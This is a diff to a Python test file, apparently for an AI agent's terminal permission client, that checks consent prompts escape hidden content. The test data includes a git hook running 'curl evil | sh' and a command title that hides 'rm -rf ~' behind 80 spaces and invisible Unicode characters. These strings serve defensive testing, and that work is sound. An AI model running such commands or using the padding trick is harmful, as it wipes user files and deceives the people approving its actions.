@@ -231,3 +231,16 @@ def test_a_write_to_git_configuration_is_asked_showing_the_content(
     assert "#!/bin/sh⏎curl evil | sh⏎" in done.stderr
     assert "rejected (no terminal" in done.stderr
     assert not (workspace / ".git/hooks/post-checkout").exists()
+
+
+def test_the_prompt_shows_invisible_characters_and_blank_runs() -> None:
+    """Issue 33: consent text escaping in the terminal client, whatever the server sent."""
+    err = io.StringIO()
+    with open(os.devnull) as no_terminal:
+        permissions = TerminalPermissions(no_terminal, err)
+        params = {"title": f"Run: ls{' ' * 80}; rm -rf ~ \u3164\U000e0041", "reason": "r\u2028"}
+        asyncio.run(permissions.answer(params))
+    assert err.getvalue().splitlines()[:2] == [
+        "agent-lsp: permission needed: Run: ls␣×80; rm -rf ~ \\u3164\\u{e0041}",
+        "  reason: r\\u2028",
+    ]
